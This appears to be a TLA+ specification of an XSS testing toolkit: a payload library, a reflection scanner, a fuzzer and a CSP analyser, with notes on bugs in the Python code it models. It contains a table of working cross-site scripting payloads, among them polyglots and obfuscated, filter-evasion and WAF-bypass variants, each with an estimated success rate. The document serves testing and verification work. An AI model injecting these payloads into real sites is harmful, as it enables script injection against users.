     <<[payload |-> Chars("jaVasCript:/*-/*") \o <<BACKTICK>> \o Chars("/*\\") \o <<BACKTICK>> \o Chars("/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//"),
        category |-> "polyglot",
        description |-> "Universal polyglot payload by Gareth Heyes",
        contexts |-> <<"html_content", "attribute_value", "javascript_string", "url_parameter", "css_value">>,
        bypass_techniques |-> <<"case_variation", "comment_breaking", "encoded_chars", "mixed_quotes", "context_breaking">>,
        success_rate |-> (40 * Scale) \div 100,
        source |-> "PortSwigger/Gareth Heyes",
        tags |-> <<"universal", "polyglot", "famous", "complex">>,
        severity |-> "critical",
        notes |-> "Famous polyglot that works in many contexts but complex to understand"],
       [payload |-> Chars("\"onclick=alert() a=\""),
        category |-> "polyglot",
        description |-> "Simple polyglot for attribute and HTML contexts",
        contexts |-> <<"attribute_value", "html_content">>,
        bypass_techniques |-> <<"attribute_breaking">>,
        success_rate |-> (70 * Scale) \div 100,
        source |-> "Common polyglot",
        tags |-> <<"simple", "attribute", "breaking">>,
        severity |-> "high",
        notes |-> "Simple but effective attribute breaking polyglot"],
       [payload |-> Chars("</script><img/src=\"\" onerror=alert()>"),
        category |-> "polyglot",
        description |-> "Script context breaking with image injection",
        contexts |-> <<"javascript_string", "html_content">>,
        bypass_techniques |-> <<"context_breaking", "tag_injection">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "Context breaking",
        tags |-> <<"script_breaking", "context_escape">>,
        severity |-> "high",
        notes |-> "Breaks out of script context then injects HTML"],
       [payload |-> Chars("/*</style></script><img/src/onerror=alert()>"),
        category |-> "polyglot",
        description |-> "CSS and script context breaking polyglot",
        contexts |-> <<"css_value", "javascript_string", "html_content">>,
        bypass_techniques |-> <<"context_breaking", "comment_breaking">>,
        success_rate |-> (50 * Scale) \div 100,
        source |-> "Multi-context",
        tags |-> <<"css_breaking", "script_breaking">>,
        severity |-> "high",
        notes |-> "Escapes both CSS and script contexts"]>>,
   advanced |->
     <<[payload |-> Chars("<details open ontoggle=alert()>"),
        category |-> "advanced",
        description |-> "HTML5 details element with ontoggle event",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"html5_events">>,
        success_rate |-> (85 * Scale) \div 100,
        source |-> "HTML5 advanced",
        tags |-> <<"html5", "details", "ontoggle">>,
        severity |-> "high",
        notes |-> "Fires immediately when details element is rendered"],
       [payload |-> Chars("<video><source onerror=\"alert()\">"),
        category |-> "advanced",
        description |-> "Video element with source onerror",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"html5_media">>,
        success_rate |-> (80 * Scale) \div 100,
        source |-> "Media elements",
        tags |-> <<"video", "source", "media">>,
        severity |-> "high",
        notes |-> "Uses HTML5 media elements"],
       [payload |-> Chars("<math><mi//xlink:href=\"data:x,<script>alert()</script>\">"),
        category |-> "advanced",
        description |-> "MathML with XLink namespace injection",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"namespace_confusion", "protocol_confusion">>,
        success_rate |-> (30 * Scale) \div 100,
        source |-> "XML namespaces",
        tags |-> <<"mathml", "xlink", "namespace">>,
        severity |-> "medium",
        notes |-> "Complex namespace-based injection"],
       [payload |-> Chars("<template><script>alert()</script></template>"),
        category |-> "advanced",
        description |-> "HTML5 template element - may not execute immediately",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"html5_template">>,
        success_rate |-> (40 * Scale) \div 100,
        source |-> "Template injection",
        tags |-> <<"template", "html5", "deferred">>,
        severity |-> "medium",
        notes |-> "Template content is inert by default"],
       [payload |-> Chars("<object data=\"javascript:alert()\">"),
        category |-> "advanced",
        description |-> "Object element with JavaScript data URL",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"protocol_confusion">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "Object injection",
        tags |-> <<"object", "data_url">>,
        severity |-> "high",
        notes |-> "Uses object element with JavaScript protocol"],
       [payload |-> Chars("<embed src=\"javascript:alert()\">"),
        category |-> "advanced",
        description |-> "Embed element with JavaScript protocol",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"protocol_confusion">>,
        success_rate |-> (50 * Scale) \div 100,
        source |-> "Embed injection",
        tags |-> <<"embed", "protocol">>,
        severity |-> "medium",
        notes |-> "Embed element with JavaScript protocol"],
       [payload |-> Chars("<marquee onstart=alert()>"),
        category |-> "advanced",
        description |-> "Marquee element with onstart event",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"legacy_elements">>,
        success_rate |-> (70 * Scale) \div 100,
        source |-> "Legacy elements",
        tags |-> <<"marquee", "onstart", "legacy">>,
        severity |-> "medium",
        notes |-> "Legacy element that may bypass modern filters"]>>,
   obfuscated |->
     <<[payload |-> Chars("<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
        category |-> "obfuscated",
        description |-> "Character code obfuscation with eval",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"encoding", "obfuscation", "fromCharCode">>,
        success_rate |-> (50 * Scale) \div 100,
        source |-> "Encoding obfuscation",
        tags |-> <<"fromCharCode", "eval", "numeric">>,
        severity |-> "high",
        notes |-> "Encodes alert(1) as character codes"],
       [payload |-> Chars("<svg onload=\"this[\\x61\\x6c\\x65\\x72\\x74]()\">"),
        category |-> "obfuscated",
        description |-> "Hex encoding with bracket notation",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"unicode_encoding", "bracket_notation">>,
        success_rate |-> (45 * Scale) \div 100,
        source |-> "Unicode obfuscation",
        tags |-> <<"hex_encoding", "bracket_notation">>,
        severity |-> "high",
        notes |-> "Hex encodes 'alert' and uses bracket notation"],
       [payload |-> Chars("<iframe/onload=top[8680439..toString(30)](1337)>"),
        category |-> "obfuscated",
        description |-> "Numeric obfuscation with toString radix",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"numeric_obfuscation", "radix_conversion">>,
        success_rate |-> (35 * Scale) \div 100,
        source |-> "Mathematical obfuscation",
        tags |-> <<"numeric", "toString", "radix">>,
        severity |-> "medium",
        notes |-> "Uses number base conversion to hide function name"],
       [payload |-> Chars("<img src=x onerror=(()=>{return alert") \o <<BACKTICK>> \o Chars("1") \o <<BACKTICK>> \o Chars("})()>"),
        category |-> "obfuscated",
        description |-> "Arrow function with template literals",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"arrow_function", "template_literals">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "ES6 obfuscation",
        tags |-> <<"arrow_function", "es6", "template_literal">>,
        severity |-> "high",
        notes |-> "Uses modern JavaScript syntax for obfuscation"],
       [payload |-> Chars("<svg onload=location=") \o <<BACKTICK>> \o Chars("java${\"\"}script:alert(1)") \o <<BACKTICK>> \o Chars(">"),
        category |-> "obfuscated",
        description |-> "Template literal string concatenation obfuscation",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"template_literals", "string_concatenation">>,
        success_rate |-> (40 * Scale) \div 100,
        source |-> "String obfuscation",
        tags |-> <<"template_literal", "concatenation">>,
        severity |-> "high",
        notes |-> "Breaks up 'javascript' with template literal concatenation"]>>,
   filter_evasion |->
     <<[payload |-> Chars("<img src=1 href=1 onerror=\"javascript:alert(1)\">"),
        category |-> "filter_evasion",
        description |-> "Multiple attributes to confuse parsers",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"attribute_confusion">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "Parser confusion",
        tags |-> <<"multiple_attributes", "parser_confusion">>,
        severity |-> "high",
        notes |-> "Uses invalid href on img to confuse parsers"],
       [payload |-> Chars("<svg><script href=data:,alert(1) />"),
        category |-> "filter_evasion",
        description |-> "Invalid script href attribute",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"invalid_attributes">>,
        success_rate |-> (30 * Scale) \div 100,
        source |-> "Invalid HTML",
        tags |-> <<"invalid_html", "script">>,
        severity |-> "medium",
        notes |-> "Uses invalid href on script element"],
       [payload |-> Chars("<script src=data:,alert(1)>"),
        category |-> "filter_evasion",
        description |-> "Data URL in script src",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"data_url", "protocol_confusion">>,
        success_rate |-> (70 * Scale) \div 100,
        source |-> "Data URL",
        tags |-> <<"data_url", "script_src">>,
        severity |-> "high",
        notes |-> "Uses data: protocol for inline JavaScript"],
       [payload |-> Chars("<img src=/ onerror=alert(1)>"),
        category |-> "filter_evasion",
        description |-> "Minimal src attribute value",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"minimal_attributes">>,
        success_rate |-> (80 * Scale) \div 100,
        source |-> "Minimal injection",
        tags |-> <<"minimal", "single_char">>,
        severity |-> "high",
        notes |-> "Uses single character for src to trigger onerror"]>>,
   waf_bypass |->
     <<[payload |-> Chars("<svg/onload=alert(1)//-->"),
        category |-> "waf_bypass",
        description |-> "SVG with comment-like ending to confuse WAF",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"comment_confusion", "svg">>,
        success_rate |-> (50 * Scale) \div 100,
        source |-> "WAF evasion",
        tags |-> <<"svg", "comment", "waf_bypass">>,
        severity |-> "high",
        notes |-> "Comment-like ending may confuse WAF parsing"],
       [payload |-> Chars("<img src=x:alert(1) onerror=eval(src)>"),
        category |-> "waf_bypass",
        description |-> "Uses src attribute value as code via eval",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"attribute_reuse", "eval">>,
        success_rate |-> (40 * Scale) \div 100,
        source |-> "Attribute reuse",
        tags |-> <<"eval", "src_reuse", "clever">>,
        severity |-> "high",
        notes |-> "Reuses src attribute content as JavaScript code"],
       [payload |-> Chars("<iframe src=javascript:alert") \o <<BACKTICK>> \o Chars("1") \o <<BACKTICK>> \o Chars(">"),
        category |-> "waf_bypass",
        description |-> "Iframe with template literal in JavaScript protocol",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"template_literals", "protocol_confusion">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "Protocol + template",
        tags |-> <<"iframe", "template_literal">>,
        severity |-> "high",
        notes |-> "Combines JavaScript protocol with template literals"],
       [payload |-> Chars("<form><button formaction=javascript:alert(1)>Click"),
        category |-> "waf_bypass",
        description |-> "Form button with JavaScript formaction",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"form_attributes", "protocol_confusion">>,
        success_rate |-> (30 * Scale) \div 100,
        source |-> "Form injection",
        tags |-> <<"form", "formaction", "button">>,
        severity |-> "medium",
        notes |-> "Uses HTML5 form attributes for JavaScript execution"]>>]

\* the payloads of self.payloads.values(), category after category
AllPayloads(payloads) ==
  Flatten([c \in DOMAIN PayloadCategory |->
             [k \in DOMAIN payloads[PayloadCategory[c]] |-> <<PayloadCategory[c], k>>]])

\* one index of _build_search_indices: under each key the payloads that list
\* it, in the order of self.payloads, once for each time they list it
BuildIndex(payloads, keys(_)) ==
  LET index(refs) ==
        [key \in UNION {Range(keys(payloads[r[1]][r[2]])) : r \in Range(refs)} |->
           Flatten([n \in DOMAIN refs |->
                      [j \in 1..Count(keys(payloads[refs[n][1]][refs[n][2]]), key) |->
                         refs[n]]])]
  IN index(AllPayloads(payloads))

\* payload.description.lower().split()
DescriptionKeywords(payload) == split_whitespace(lower(Chars(payload.description)))

\* _build_search_indices
build_search_indices(payloads) ==
  [context_index |-> BuildIndex(payloads, LAMBDA p : p.contexts),
   technique_index |-> BuildIndex(payloads, LAMBDA p : p.bypass_techniques),
   tag_index |-> BuildIndex(payloads, LAMBDA p : p.tags),
   keyword_index |-> BuildIndex(payloads, DescriptionKeywords)]

\* PayloadLibrary(): the attributes of the instance
NewPayloadLibrary ==
  [constructed |-> TRUE, payloads |-> LoadPayloads] @@ build_search_indices(LoadPayloads)

\* sorted(refs, key=lambda p: p.success_rate, reverse=True)
SortedBySuccessRate(self, refs) ==
  SortedDesc(refs, [i \in DOMAIN refs |-> self.payloads[refs[i][1]][refs[i][2]].success_rate])

\* what a method leaves behind: the instance and what the call returned or raised
Returned(self, value) == [self |-> self, outcome |-> "returned", returned |-> value]
Raised(self, error) == [self |-> self, outcome |-> "raised", returned |-> error]

\* d.get(key, [])
GetOrEmpty(d, key) == IF key \in DOMAIN d THEN d[key] ELSE <<>>

\* get_payloads_by_category returns the list of self.payloads itself
get_payloads_by_category(self, category) ==
  Returned(self, [k \in DOMAIN GetOrEmpty(self.payloads, category) |-> <<category, k>>])

get_payloads_by_context(self, context) ==
  Returned(self, SortedBySuccessRate(self, GetOrEmpty(self.context_index, context)))

get_payloads_by_technique(self, technique) ==
  Returned(self, SortedBySuccessRate(self, GetOrEmpty(self.technique_index, technique)))

get_payloads_by_tag(self, tag) ==
  Returned(self, SortedBySuccessRate(self, GetOrEmpty(self.tag_index, tag)))

\* get_best_payloads with all_payloads bound to the first list of self.payloads
\* instead of a fresh list: extend() then grows that list
get_best_payloads_aliasing(self, limit) ==
  LET extended(all_payloads) ==
        [self |-> [self EXCEPT !.payloads[PayloadCategory[1]] =
                     [i \in DOMAIN all_payloads |->
                        self.payloads[all_payloads[i][1]][all_payloads[i][2]]]],
         outcome |-> "returned",
         returned |-> Prefix(SortedBySuccessRate(self, all_payloads), limit)]
  IN extended(AllPayloads(self.payloads))

get_best_payloads(self, limit) ==
  Returned(self, Prefix(SortedBySuccessRate(self, AllPayloads(self.payloads)), limit))

\* keyword_lower in the description, the payload text or the joined tags
SearchMatches(payload, keyword_lower) ==
  \/ Contains(lower(Chars(payload.description)), keyword_lower)
  \/ Contains(lower(payload.payload), keyword_lower)
  \/ Contains(lower(Flatten([i \in 1..(2 * Len(payload.tags) - 1) |->
                               IF i % 2 = 1 THEN Chars(payload.tags[(i + 1) \div 2])
                               ELSE <<" ">>])),
              keyword_lower)

\* search_payloads: matching_payloads is a set, and XSSPayload, a dataclass
\* with eq and without frozen, has no __hash__: the first add() or a
\* non-empty update() raises TypeError
search_payloads(self, keyword) ==
  LET searched(keyword_lower) ==
        IF \/ \E r \in Range(AllPayloads(self.payloads)) :
                SearchMatches(self.payloads[r[1]][r[2]], keyword_lower)
           \/ /\ keyword_lower \in DOMAIN self.keyword_index
              /\ self.keyword_index[keyword_lower] # <<>>
        THEN Raised(self, "TypeError")
        ELSE Returned(self, <<>>)
  IN searched(lower(keyword))

\* get_random_payload: choice is what random.choice draws, a position of the list
get_random_payload(self, category, choice) ==
  LET chosen(payloads) ==
        IF payloads = <<>> THEN Raised(self, "ValueError")
        ELSE Returned(self, payloads[((choice - 1) % Len(payloads)) + 1])
  IN chosen(IF category # "None"
              THEN [k \in DOMAIN GetOrEmpty(self.payloads, category) |-> <<category, k>>]
              ELSE AllPayloads(self.payloads))

get_payloads_by_severity(self, severity) ==
  LET matching(refs) ==
        SelectSeq(refs, LAMBDA r : self.payloads[r[1]][r[2]].severity = severity)
  IN Returned(self, SortedBySuccessRate(self, matching(AllPayloads(self.payloads))))

\* filter_payloads; an empty list and None filter nothing, and so does max_length 0
filter_payloads(self, categories, contexts, techniques, min_success_rate, max_length) ==
  LET kept(r) ==
        LET payload == self.payloads[r[1]][r[2]]
        IN /\ ~(categories # <<>> /\ r[1] \notin Range(categories))
           /\ ~(payload.success_rate < min_success_rate)
           /\ ~(max_length # 0 /\ Len(payload.payload) > max_length)
           /\ ~(contexts # <<>> /\ Range(contexts) \cap Range(payload.contexts) = {})
           /\ ~(techniques # <<>>
                  /\ Range(techniques) \cap Range(payload.bypass_techniques) = {})
      filtered(refs) == SelectSeq(refs, kept)
  IN Returned(self, SortedBySuccessRate(self, filtered(AllPayloads(self.payloads))))

\* get_statistics; average_success_rate is the pair of the sum and the count
get_statistics(self) ==
  LET stats(refs) ==
        LET field(n) == self.payloads[refs[n][1]][refs[n][2]]
            distribution(keys(_)) ==
              [key \in UNION {Range(keys(field(n))) : n \in DOMAIN refs} |->
                 SumSeq([n \in DOMAIN refs |-> Count(keys(field(n)), key)])]
        IN [total_payloads |-> Len(refs),
            category_counts |->
              [category \in Range(PayloadCategory) |-> Len(self.payloads[category])],
            average_success_rate |->
              <<SumSeq([n \in DOMAIN refs |-> field(n).success_rate]), Len(refs)>>,
            context_distribution |-> distribution(LAMBDA p : p.contexts),
            technique_distribution |-> distribution(LAMBDA p : p.bypass_techniques),
            severity_distribution |-> distribution(LAMBDA p : <<p.severity>>)]
  IN Returned(self, stats(AllPayloads(self.payloads)))

\* export_to_json: the data handed to json.dump; opening or writing the
\* file may fail
export_to_json(self, filename, written) ==
  IF written
    THEN Returned(self,
                  [category \in Range(PayloadCategory) |->
                     [k \in DOMAIN self.payloads[category] |->
                        [f \in DOMAIN self.payloads[category][k] \ {"category"} |->
                           self.payloads[category][k][f]]]])
    ELSE Raised(self, "OSError")

(***************************************************************************)
(* scanners/reflection_scanner.py: ReflectionScanner                       *)
(*                                                                         *)
(* The site under test answers a request by what it does with the value    *)
(* of the tested parameter (mode), or not at all (down: the requests, by   *)
(* their number in the scan_url call, at which the transport fails).       *)
(* response_time and timestamp, wall-clock readings, are left out of the   *)
(* results.                                                                *)
(***************************************************************************)
\* '\n'.join(lines)
JoinLines(lines) ==
  Flatten([i \in 1..(2 * Len(lines) - 1) |->
             IF i % 2 = 1 THEN lines[(i + 1) \div 2] ELSE <<"\n">>])

\* _extract_evidence
extract_evidence(payload, response_text) ==
  LET highlighted(line) ==
        IF Contains(line, payload)
          THEN Replace(line, payload, Chars("**") \o payload \o Chars("**"))
          ELSE line
      around(lines, i) ==
        [j \in 1..(Min(Len(lines), i + 2) - Max(1, i - 2) + 1) |->
           highlighted(lines[Max(1, i - 2) + j - 1])]
      evidence(lines, hits) ==
        IF hits = {} THEN Chars("Payload '") \o payload \o Chars("' found in response")
        ELSE JoinLines(around(lines, CHOOSE i \in hits : \A j \in hits : i <= j))
      found(lines) == evidence(lines, {i \in DOMAIN lines : Contains(lines[i], payload)})
  IN found(split(response_text, "\n"))

\* _determine_reflection_context
determine_reflection_context(payload, response_text) ==
  LET context(line, line_lower) ==
        IF Contains(line_lower, Chars("<script")) /\ Contains(line_lower, Chars("</script>"))
          THEN "script_tag"
        ELSE IF \E event \in {"load", "error", "click", "mouseover"} :
                  Contains(line_lower, Chars("on") \o Chars(event) \o Chars("="))
          THEN "event_handler"
        ELSE IF Contains(line_lower, Chars("href=")) \/ Contains(line_lower, Chars("src="))
          THEN "attribute_value"
        ELSE IF Contains(line, Chars("<!--")) /\ Contains(line, Chars("-->"))
          THEN "html_comment"
        ELSE IF Contains(line_lower, Chars("<style")) THEN "css_context"
        ELSE "html_content"
      first(lines, hits) ==
        IF hits = {} THEN "unknown_context"
        ELSE context(lines[CHOOSE i \in hits : \A j \in hits : i <= j],
                     lower(lines[CHOOSE i \in hits : \A j \in hits : i <= j]))
      found(lines) == first(lines, {i \in DOMAIN lines : Contains(lines[i], payload)})
  IN found(split(response_text, "\n"))

\* _analyze_response: success, confidence (in units of 1/Scale), evidence, context
analyze_response(payload, response_text) ==
  LET tuple(success, confidence, evidence, context) ==
        [success |-> success, confidence |-> confidence, evidence |-> evidence,
         context |-> context]
      partial(payload_words) ==
        LET partial_matches ==
              Cardinality({i \in DOMAIN payload_words :
                             Contains(response_text, payload_words[i])})
        IN IF partial_matches > 0 /\ Len(payload_words) > 1
             THEN tuple(TRUE,
                        (3 * Scale) \div 10
                          + (partial_matches * 4 * Scale) \div (10 * Len(payload_words)),
                        Chars("Partial reflection: ") \o Decimal(partial_matches) \o <<"/">>
                          \o Decimal(Len(payload_words)) \o Chars(" words found"),
                        "partial_reflection")
             ELSE tuple(FALSE, 0, <<>>, "no_reflection")
  IN IF Contains(response_text, payload)
       THEN tuple(TRUE, (9 * Scale) \div 10, extract_evidence(payload, response_text),
                  determine_reflection_context(payload, response_text))
     ELSE IF Contains(response_text, html_escape(payload))
       THEN tuple(TRUE, (7 * Scale) \div 10,
                  extract_evidence(html_escape(payload), response_text), "html_encoded")
     ELSE IF Contains(response_text, quote(payload, {"/"}))
       THEN tuple(TRUE, (6 * Scale) \div 10,
                  extract_evidence(quote(payload, {"/"}), response_text), "url_encoded")
     ELSE partial(split_whitespace(payload))

\* what the site shows of the value it received
SiteShows(mode, value) ==
  CASE mode = "reflect" -> value
    [] mode = "escape" -> html_escape(value)
    [] mode = "strip" -> SelectSeq(value, LAMBDA c : c \notin {"<", ">"})
    [] mode = "block_script" ->
         IF Contains(lower(value), Chars("script")) THEN Chars("blocked") ELSE value
    [] mode = "block_markup" ->
         IF Contains(value, Chars("<")) \/ Contains(lower(value), Chars("javascript:"))
           THEN Chars("blocked") ELSE value
    [] OTHER -> <<>>

\* self.session.get(...) as the n-th request of the call: the response, or the
\* exception requests raises
SessionGet(site, n, value) ==
  IF n \in site.down
    THEN [raised |-> TRUE,
          error |-> IF n % 2 = 1 THEN "Read timed out." ELSE "Connection failed"]
    ELSE [raised |-> FALSE, status_code |-> 200,
          text |-> Chars("<html><body>\n<p>Search results for: ") \o SiteShows(site.mode, value)
                     \o Chars("</p>\n</body></html>")]

\* the payloads _test_parameter and _test_bypass_payloads walk through:
\* basic_payloads[:5] and bypass_payloads[:3]
PhasePayloads(library, phase) ==
  LET objects(refs) == [i \in DOMAIN refs |-> library.payloads[refs[i][1]][refs[i][2]]]
  IN IF phase = "basic"
       THEN objects(Prefix(get_payloads_by_category(library, "basic").returned, 5))
       ELSE objects(Prefix(get_payloads_by_category(library, "bypass").returned, 3))

\* self.payload_analyzer.analyze_payload(payload).analysis for the payloads the
\* scanner sends
ScannerAnalyses ==
  LET sent(basic, bypass) ==
        {basic[i].payload : i \in DOMAIN basic} \cup {bypass[i].payload : i \in DOMAIN bypass}
  IN [payload \in sent(PhasePayloads(NewPayloadLibrary, "basic"),
                       PhasePayloads(NewPayloadLibrary, "bypass")) |->
        AnalyzePayload(payload).analysis] @@ <<>>

\* the XSSTestResult of the except branch of _test_single_payload
ErrorResult(url, parameter, payload_obj, error) ==
  [url |-> url, parameter |-> parameter, payload |-> payload_obj.payload, method |-> "GET",
   success |-> FALSE, confidence |-> 0, response_code |-> 0, evidence |-> <<>>,
   context |-> "error", bypass_techniques |-> payload_obj.bypass_techniques,
   payload_analysis |-> "None", error |-> error]

\* the try block of _test_single_payload: the exception it raises or the
\* result it builds; counted tells whether successful_injections is
\* incremented on the way.  With test_get_parameters off, test_url is never
\* bound and building the result raises UnboundLocalError.
TrySinglePayload(config, site, n, url, parameter, payload_obj) ==
  LET test_url == url \o <<"?">> \o Chars(parameter) \o <<"=">>
                    \o quote(payload_obj.payload, {"/"})
      built(response, analysed) ==
        IF ~config.test_get_parameters
          THEN [raised |-> TRUE, counted |-> analysed.success,
                error |-> "cannot access local variable 'test_url' where it is not associated with a value"]
          ELSE [raised |-> FALSE, counted |-> analysed.success,
                result |->
                  [url |-> test_url, parameter |-> parameter,
                   payload |-> payload_obj.payload, method |-> "GET",
                   success |-> analysed.success, confidence |-> analysed.confidence,
                   response_code |-> response.status_code, evidence |-> analysed.evidence,
                   context |-> analysed.context,
                   bypass_techniques |-> payload_obj.bypass_techniques,
                   payload_analysis |-> ScannerAnalyses[payload_obj.payload],
                   error |-> "None"]]
      answered(response) ==
        IF response.raised
          THEN [raised |-> TRUE, counted |-> FALSE, error |-> response.error]
          ELSE built(response, analyze_response(payload_obj.payload, response.text))
  IN answered(SessionGet(site, n,
                         IF config.test_get_parameters THEN payload_obj.payload ELSE <<>>))

\* _test_single_payload without its except branch
test_single_payload_uncaught(config, site, n, url, parameter, payload_obj) ==
  TrySinglePayload(config, site, n, url, parameter, payload_obj)

\* _test_single_payload, after total_requests is incremented: every exception
\* of the try block becomes a result
test_single_payload(config, site, n, url, parameter, payload_obj) ==
  LET caught(tried) ==
        IF tried.raised
          THEN [raised |-> FALSE, counted |-> tried.counted,
                result |-> ErrorResult(url, parameter, payload_obj, tried.error)]
          ELSE tried
  IN caught(TrySinglePayload(config, site, n, url, parameter, payload_obj))

\* the loops of _test_parameter left running after a successful basic payload
NextTestNoBreak(library, phase, k, success) ==
  IF k < Len(PhasePayloads(library, phase)) THEN <<phase, k + 1>>
  ELSE IF phase = "basic" /\ success /\ PhasePayloads(library, "bypass") # <<>>
    THEN <<"bypass", 1>>
  ELSE <<"done", 0>>

\* the loops of _test_parameter and _test_bypass_payloads: the phase and the
\* position of the next test after the k-th test of a phase, "done" when the
\* parameter is finished
NextTest(library, phase, k, success) ==
  IF phase = "basic" /\ success
    THEN IF PhasePayloads(library, "bypass") # <<>> THEN <<"bypass", 1>> ELSE <<"done", 0>>
  ELSE IF k < Len(PhasePayloads(library, phase)) THEN <<phase, k + 1>>
  ELSE <<"done", 0>>

(***************************************************************************)
(* State                                                                   *)
(***************************************************************************)
VARIABLES
  an_payload,      \* the payload analyze_payload is called with
  an_outcome,      \* analyze_payload: "none" before the call, then "returned" or "raised"
  an_analysis,     \* the PayloadAnalysis the last call returned
  an_caught,       \* the exception the last call caught and logged ("" if none)
  an_risk_score,   \* risk_score of _calculate_risk_and_confidence in the last call
  an_history,      \* history: the calls the instance has served (payload, analysis)
  an_scan,         \* _identify_bypass_techniques called with an edited pattern table
  fz_constructed,       \* the ContextAwareFuzzer instances constructed so far
  successful_payloads,  \* per instance: self.successful_payloads (context key -> list)
  blocked_patterns,     \* per instance: self.blocked_patterns (set)
  fz_run,               \* per caller: its fuzz_context call (position and locals)
  fz_classified,        \* history: the bag of attempts _analyze_fuzzing_result classified
  learn_lock,           \* the mutex around the update step: its holder, or 0 when free
  fz_detected,          \* detect_context: its arguments and the fingerprint it returned
  fz_generated,         \* generate_payloads called on its own: collected and returned lists
  fz_generations,       \* history: generate_payloads calls on instances that have learned
  pg_outcome,      \* generate_polyglots: "none" before the call, then "returned"
  pg_args,         \* the arguments generate_polyglots is called with
  pg_candidates,   \* history: every candidate of the call, scored, in generation order
  pg_returned,     \* the list generate_polyglots returned
  pg_calls,        \* history: the calls made so far (arguments, returned list)
  pg_encoding,     \* _apply_encoding called on its own: content, encoding, result
  cs_analysis,     \* analyze_csp: the header and the CSPAnalysis returned
  sc_scanner,      \* the ReflectionScanner: config, self.results, self.scan_stats
  sc_sites,        \* the sites behind the URLs scanned
  sc_run,          \* per worker: its scan_url call (position, locals, history of tests)
  sc_pool,         \* scan_multiple_urls: its position and all_results
  lb_library,      \* the PayloadLibrary instance: self.payloads and the search indices
  lb_call,         \* the last method call on the library: arguments and outcome
  lb_queries,      \* the number of method calls made on the library
  lb_searches      \* history: the search_payloads calls made so far

an_vars == <<an_payload, an_outcome, an_analysis, an_caught, an_risk_score, an_history,
             an_scan>>
fz_vars == <<fz_constructed, successful_payloads, blocked_patterns, fz_run,
             fz_classified, learn_lock, fz_detected, fz_generated, fz_generations>>

pg_vars == <<pg_outcome, pg_args, pg_candidates, pg_returned, pg_calls, pg_encoding>>

cs_vars == <<cs_analysis>>
sc_vars == <<sc_scanner, sc_sites, sc_run, sc_pool>>
lb_vars == <<lb_library, lb_call, lb_queries, lb_searches>>

vars == <<an_vars, fz_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* The payloads analysed: up to MaxFragments fragments, concatenated
MaxFragments == 2
Fragments ==
  { Chars("<script>"),
    Chars("<SCRIPT>"),
    Chars("<img src=x onerror=alert(\"XSS\")>"),
    Chars("<svg onload=alert(1)>"),
    Chars("innerHTML"),
    Chars("eval("),
    Chars("javascript:"),
    Chars("javascript:alert('") \o <<SURROGATE>> \o Chars("')"),
    Chars("'"),
    <<SURROGATE>>,
    [i \in 1..101 |-> "Z"] }
RECURSIVE PayloadsOf(_)
PayloadsOf(n) ==
  IF n = 0 THEN {<<>>}
  ELSE PayloadsOf(n - 1) \cup {p \o f : p \in PayloadsOf(n - 1), f \in Fragments}
Payloads == PayloadsOf(MaxFragments)

NoAnalysis == [payload |-> <<>>]

NoScan == [outcome |-> "none", malformed |-> {}, techniques |-> <<>>]
AnInit ==
  /\ an_payload \in Payloads
  /\ an_outcome = "none"
  /\ an_analysis = NoAnalysis
  /\ an_caught = ""
  /\ an_risk_score = 0
  /\ an_history = <<>>
  /\ an_scan = NoScan
\* no analyzer in the run
AnIdle ==
  /\ an_payload = <<>>
  /\ an_outcome = "idle"
  /\ an_analysis = NoAnalysis
  /\ an_caught = ""
  /\ an_risk_score = 0
  /\ an_history = <<>>
  /\ an_scan = NoScan

\* analyzer.analyze_payload(payload)
AnalyzePayloadCall ==
  /\ an_outcome = "none"
  /\ \E r \in {AnalyzePayload(an_payload)} :
        /\ an_outcome' = r.outcome
        /\ an_analysis' = r.analysis
        /\ an_caught' = r.caught
        /\ an_risk_score' = r.risk_score
        /\ an_history' = Append(an_history, [payload |-> an_payload, analysis |-> r.analysis])
  /\ UNCHANGED <<an_payload, an_scan, fz_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* The keys of bypass_patterns a caller has put a malformed pattern under
MalformedKeys == {"case_variation", "whitespace_abuse", "filter_evasion", "bracket_notation"}
\* analyzer._identify_bypass_techniques(payload) with such a table
IdentifyBypassCall(malformed) ==
  /\ an_outcome = "none"
  /\ an_scan.outcome = "none"
  /\ an_scan' = [outcome |-> "returned", malformed |-> malformed,
                 techniques |-> IdentifyBypassTechniquesTable(an_payload, malformed)]
  /\ UNCHANGED <<an_payload, an_outcome, an_analysis, an_caught, an_risk_score, an_history,
                 fz_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* The calls one instance serves one after the other
MaxCalls == 3
CallPayloads ==
  { Chars("<script>"),
    Chars("<img src=x onerror=alert(\"XSS\")>"),
    Chars("javascript:alert('") \o <<SURROGATE>> \o Chars("')"),
    Chars("innerHTML"),
    <<>> }

AnalyzeCallCounting(payload) ==
  /\ an_outcome \in {"none", "returned"}
